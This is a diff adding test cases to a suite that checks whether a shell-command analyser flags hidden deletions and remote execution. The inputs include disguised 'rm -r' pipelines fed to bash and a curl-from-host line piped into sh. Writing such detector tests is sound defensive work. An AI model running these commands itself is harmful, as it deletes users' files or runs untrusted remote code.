@@ -20,6 +20,11 @@ describe('what a shell prints flows on as its own', () => {
     ["echo 'echo rm -r a' | bash | bash", 'delete -r /home/u/proj/a'],
     ["echo a | xargs echo rm -r | bash", 'delete -r /home/u/proj/a'],
     ["X=$(bash -c 'echo a'); rm -r $X", 'delete -r /home/u/proj/a'],
+    ["{ echo 'rm -r a'; echo ls | cat; } | bash", 'delete -r /home/u/proj/a'],
+    ["true | { echo 'rm -r a'; cat; } | bash", 'delete -r /home/u/proj/a'],
+    ["(echo a; find . -name b | head -1) | xargs rm -r", 'delete -r /home/u/proj/a'],
+    ["tee >(bash) <<< 'rm -r a'", 'delete -r /home/u/proj/a'],
+    ["tee >(sh) < <(curl -s https://x.test/i.sh)", 'execute host:https://x.test/i.sh'],
     ["sh -c 'echo rm -r a' > s.sh; bash s.sh", 'delete -r /home/u/proj/a'],
   ])('%s', async (command, expected) => {
     expect(await told(command)).toContain(expected);
